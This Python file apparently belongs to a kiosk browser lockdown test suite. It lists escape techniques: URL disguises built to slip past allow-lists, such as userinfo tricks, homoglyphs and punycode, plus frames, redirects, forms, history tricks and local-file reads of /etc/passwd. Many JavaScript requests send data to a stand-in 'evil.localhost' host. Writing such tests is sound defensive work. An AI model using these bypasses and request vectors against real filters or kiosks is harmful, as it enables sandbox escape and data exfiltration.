"""Ways out by addresses: links, frames, redirects, requests. Each leads to where nobody may go."""

from collections.abc import Iterator

from kiosk.trials.lockdown.pages import click, link, load
from kiosk.trials.lockdown.technique import CLICK, LATER, SOON, TAP, Technique
from kiosk.trials.orders import Drop, Point, Way
from kiosk.trials.site_hand import SCHEMES

_ALL_SCHEMES = ", ".join(f"'{scheme}:x'" for scheme in SCHEMES)
_EVERYWHERE = f"[EVIL + '/x', {_ALL_SCHEMES}, 'file:///etc/passwd', 'chrome://gpu']"
# The same stranger, written so that a careless list lets it pass.
_DISGUISES = (
    "'http://site.localhost@evil.localhost:' + PORT + '/a'",
    "'http://site.localhost:x@evil.localhost:' + PORT + '/b'",
    "'http://EVIL.localhost.:' + PORT + '/c'",
    "'//evil.localhost:' + PORT + '/d'",
    "'http:\\\\\\\\evil.localhost:' + PORT + '\\\\e'",
    "'http://site.localhost.evil.localhost:' + PORT + '/f'",
    "'http://evil%2elocalhost:' + PORT + '/g'",
    "'ht\\ttp://evil.local\\nhost:' + PORT + '/h'",
    "'http://evil\\u3002localhost:' + PORT + '/i'",
    "'http://\\uff45vil.localhost:' + PORT + '/j'",
    "'http://site.localhost%00.evil.localhost:' + PORT + '/k'",
    "'http://site.localhost#@evil.localhost:' + PORT + '/l'",
    "'http://xn--evl-hoa.localhost:' + PORT + '/m'",
)
_REQUESTS = {
    "an image": "new Image().src = EVIL + '/image'",
    "a script": "document.body.append(Object.assign(document.createElement('script'), "
    "{src: EVIL + '/script'}))",
    "a style": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'stylesheet', href: EVIL + '/style'}))",
    "letters": "await new FontFace('x', 'url(' + EVIL + '/letters)').load()",
    "fetch": "await fetch(EVIL + '/fetch', {mode: 'no-cors'})",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('POST', EVIL + '/xhr'); x.send('a')",
    "a WebSocket": "new WebSocket(EVIL.replace('http', 'ws') + '/socket')",
    "an EventSource": "new EventSource(EVIL + '/events')",
    "a beacon": "navigator.sendBeacon(EVIL + '/beacon', 'a')",
    "a ping of a link": "const a = Object.assign(document.createElement('a'), "
    "{href: '#x', ping: EVIL + '/ping'}); document.body.append(a); a.click()",
    "a prefetch": "for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', "
    "'prerender', 'modulepreload']) document.head.append(Object.assign("
    "document.createElement('link'), {rel, href: EVIL + '/pre', as: 'image'}))",
    "speculation rules": "const s = document.createElement('script'); "
    "s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{source: 'list', "
    "urls: [EVIL + '/guess']}], prerender: [{source: 'list', urls: [EVIL + '/guess']}]}); "
    "document.head.append(s)",
    "a worker": "new Worker(URL.createObjectURL(new Blob([`importScripts('${EVIL}/worker')`])))",
    "a shared worker": "if (window.SharedWorker) { got('a worker that pages share'); "
    "new SharedWorker(EVIL + '/shared') }",
    "a service worker": "await navigator.serviceWorker.register(EVIL + '/service')",
    "a sound and a film": "for (const kind of ['audio', 'video']) { const m = "
    "document.createElement(kind); m.src = EVIL + '/' + kind; document.body.append(m); m.load() }",
}


def ways_out() -> Iterator[Technique]:
    """All of them."""
    for scheme in SCHEMES:
        yield Technique(1, f"a link to {scheme}:", link(f"'{scheme}:help@example.org'"))
    yield from _vectors()
    yield from _forms()
    yield from _inside()
    yield from _made()
    yield from _carried()
    for number, form in enumerate(_DISGUISES):
        acts = (TAP, SOON) if number % 2 else (CLICK, SOON)
        yield Technique(25, f"a stranger in disguise, {form}", link(_with_port(form)), acts)
    for name, script in _REQUESTS.items():
        yield Technique(25, f"{name} from a stranger", load(_with_port(script)), (CLICK, SOON))
    yield from _history()


def _vectors() -> Iterator[Technique]:
    everywhere = f"for (const to of {_EVERYWHERE}) "
    frame = "const f = document.createElement('iframe'); f.src = to; document.body.append(f)"
    yield Technique(2, "frames to strangers and schemes", load(f"{everywhere}{{ {frame} }}"))
    objects = (
        "const o = document.createElement(kind); o.data = o.src = to; document.body.append(o)"
    )
    both = f"{everywhere}for (const kind of ['object', 'embed']) {{ {objects} }}"
    yield Technique(2, "objects of strangers and schemes", load(both))
    meta = "<meta http-equiv=refresh content='0; url=http://evil.localhost:{port}/meta'>"
    yield Technique(2, "a page that leads on by itself", meta.replace("{port}", "__PORT__"))
    for name, to in (("a stranger", "EVIL + '/302'"), ("mailto:", "'mailto:a@example.org'")):
        go = f"location = SITE + '/redirect?' + encodeURIComponent({to})"
        yield Technique(2, f"a redirect to {name}", click(go))
        again = f"location = SITE + '/refresh?' + encodeURIComponent({to})"
        yield Technique(2, f"a header that leads to {name}", click(again), (CLICK, SOON, SOON))


def _forms() -> Iterator[Technique]:
    everywhere = f"for (const to of {_EVERYWHERE}) "
    for method in ("get", "post"):
        form = (
            "const f = document.createElement('form'); f.method = '"
            f"{method}'; f.action = EVIL + '/form'; document.body.append(f); f.submit()"
        )
        yield Technique(2, f"a form sent to a stranger, {method}", click(form))
    yield Technique(
        2,
        "a form on the way through the site",
        click(
            "const f = document.createElement('form'); f.method = 'post'; f.action = SITE + "
            "'/redirect?' + encodeURIComponent(EVIL + '/form'); document.body.append(f); "
            "f.submit()"
        ),
    )
    for name in ("assign", "replace"):
        yield Technique(
            2, f"location.{name}, everywhere", click(f"{everywhere}location.{name}(to)")
        )
    yield Technique(2, "window.open, everywhere", click(f"{everywhere}window.open(to)"))
    yield Technique(2, "window.open by nobody's touch", load(f"{everywhere}window.open(to)"))
    yield Technique(
        2,
        "a link in a drawing",
        (
            "<svg id=all viewBox='0 0 9 9'><a href='http://evil.localhost:__PORT__/svg'>"
            "<rect width=9 height=9 /></a></svg>"
        ),
    )
    yield Technique(
        2,
        "a base that makes every link a stranger's",
        ("<base href='http://evil.localhost:__PORT__/'><a id=all href='based'>press</a>"),
    )


def _inside() -> Iterator[Technique]:
    pages = {
        7: ("view-source:http://site.localhost/", "view-source:file:///etc/passwd"),
        8: (
            *("chrome://gpu", "chrome://settings", "chrome://net-internals", "chrome://kill"),
            *("devtools://devtools/bundled/inspector.html", "about:config", "about:version"),
            *("chrome-extension://x/y.html", "qrc:/", "chrome-untrusted://x/"),
        ),
        9: ("file:///", "file:///etc/passwd", "file://host/share", "\\\\\\\\host\\\\share"),
        10: ("data:text/html,<h1>x", "filesystem:http://site.localhost/temporary/x"),
    }
    for row, addresses in pages.items():
        for address in addresses:
            yield Technique(row, f"a link to {address}", link(f"'{address}'"))


def _made() -> Iterator[Technique]:
    opened = "for (const to of ['file:///etc/passwd', 'file:///', 'chrome://gpu', 'qrc:/']) "
    yield Technique(
        9,
        "files by fetch, frame and window",
        click(
            f"{opened}{{ fetch(to).then(() => got(to), mine); window.open(to); "
            "const f = document.createElement('iframe'); f.src = to; document.body.append(f); "
            "f.onload = () => { try { if (f.contentDocument.body.innerText) "
            "got(to) } catch (e) {} } }"
        ),
    )
    yield Technique(
        10,
        "a page made of a blob",
        click(
            "location = URL.createObjectURL(new Blob(['<script>location = \"' + EVIL + "
            "'/blob\"</' + 'script>'], {type: 'text/html'}))"
        ),
    )
    yield Technique(
        10,
        "a link with a script to a stranger",
        link('"javascript:location = \'" + EVIL + "/script\'"'),
    )


def _carried() -> Iterator[Technique]:
    yield Technique(
        5, "a link taken along to the foot", link("EVIL + '/taken'"), (Point(Way.DRAG), SOON)
    )
    for way in (Way.BACK, Way.FORWARD):
        yield Technique(
            27, f"the button of a mouse that leads {way}", load(""), (Point(way), SOON)
        )
    for address in ("file:///etc/passwd", "http://evil.localhost:__PORT__/dropped"):
        yield Technique(
            5,
            f"{address.partition(':')[0]}: dropped on the page",
            load(""),
            (
                Drop(address),
                SOON,
            ),
        )


def _history() -> Iterator[Technique]:
    yield Technique(
        26,
        "a false address by the history",
        click("history.pushState(1, '', '//evil.localhost/x'); got('pushState')"),
    )
    yield Technique(
        26,
        "back and forth without end",
        load("for (let i = 0; i < 500; i++) history.pushState(i, '', '#' + i); history.go(-250)"),
        (CLICK, SOON, Point(Way.MIDDLE), SOON),
    )
    yield Technique(
        26,
        "a page that leads back to itself",
        load(
            "setInterval(() => { location.hash = Math.random() }, 1); onpopstate = () => "
            "history.forward()"
        ),
        (LATER,),
    )


def _with_port(script: str) -> str:
    return script.replace("PORT", "location.port")
